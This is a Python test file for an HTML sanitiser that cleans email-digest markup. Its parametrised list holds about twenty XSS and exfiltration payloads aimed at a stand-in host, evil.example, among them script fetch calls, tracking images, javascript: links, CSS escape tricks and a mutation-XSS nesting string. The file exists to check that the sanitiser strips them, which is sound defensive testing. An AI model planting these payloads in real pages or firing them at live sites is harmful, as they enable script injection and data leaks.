"""What is left of markup that nobody escaped."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from f.millrace.trust.markup import sanitise


@pytest.mark.parametrize(
    "hostile",
    [
        '<img src="https://evil.example/p.gif?d=1">',
        "<script>fetch('https://evil.example')</script>",
        '<a href="javascript:alert(1)">x</a>',
        '<a href="data:text/html,evil.example">x</a>',
        '<p onclick="evil()">x</p>',
        '<p style="background:url(https://evil.example/p)">x</p>',
        '<p style="background:u\\72l(https://evil.example/p)">x</p>',
        "<p style=\"background-image:image-set('https://evil.example/p' 1x)\">x</p>",
        '<p style="position:fixed;top:0">x</p>',
        '<iframe src="https://evil.example"></iframe>',
        '<form action="https://evil.example"><input name="a"><button>x</button></form>',
        '<link rel="stylesheet" href="https://evil.example/s.css">',
        '<base href="https://evil.example/">',
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        '<svg><use href="https://evil.example/#x"/></svg>',
        '<math><mtext><table><mglyph><style><img src=x onerror="evil()">',
        "<!--[if mso]><v:fill src='https://evil.example'/><![endif]-->",
        '<object data="https://evil.example"></object>',
        '<video poster="https://evil.example/p"></video>',
        '<table background="https://evil.example/p"><tr><td>x</td></tr></table>',
    ],
)
def test_nothing_is_loaded_run_or_sent(hostile):
    clean = sanitise(f"<p>before</p>{hostile}<p>after</p>")

    assert "before" in clean
    assert not re.search(r"evil|position|onclick|onerror|javascript|data:", clean), clean


def test_what_the_digest_is_made_of_stays():
    given = (
        '<table role="presentation" width="100%" cellpadding="0" border="0"'
        ' style="max-width:640px"><tbody><tr><td style="padding:8px;font:15px/1.5'
        ' Georgia,serif;color:#1c2330" valign="top"><b>It</b> is &lt;so&gt;. <a'
        ' href="https://a.example/b?c=1&amp;d=2" title="a.example"'
        ' style="color:#0a5a78">[1]</a></td></tr></tbody></table>'
    )

    clean = sanitise(given)

    for part in (
        'width="100%"',
        "max-width:640px",
        "font:15px/1.5 Georgia,serif",
        "&lt;so&gt;",
        'href="https://a.example/b?c=1&amp;d=2"',
        'title="a.example"',
        'rel="noopener noreferrer"',
    ):
        assert part in clean


@given(st.text(alphabet="<>/='\"&;: abschriptonmgevlurl()!-\x00", max_size=200))
def test_cleaning_twice_is_cleaning_once_and_no_tag_slips_through(text):
    clean = sanitise(text)

    assert sanitise(clean) == clean
    assert set(re.findall(r"<\s*/?([a-z0-9]+)", clean.lower())) <= set(
        "table tbody tr td div span p br b h1 h2 a".split()
    )
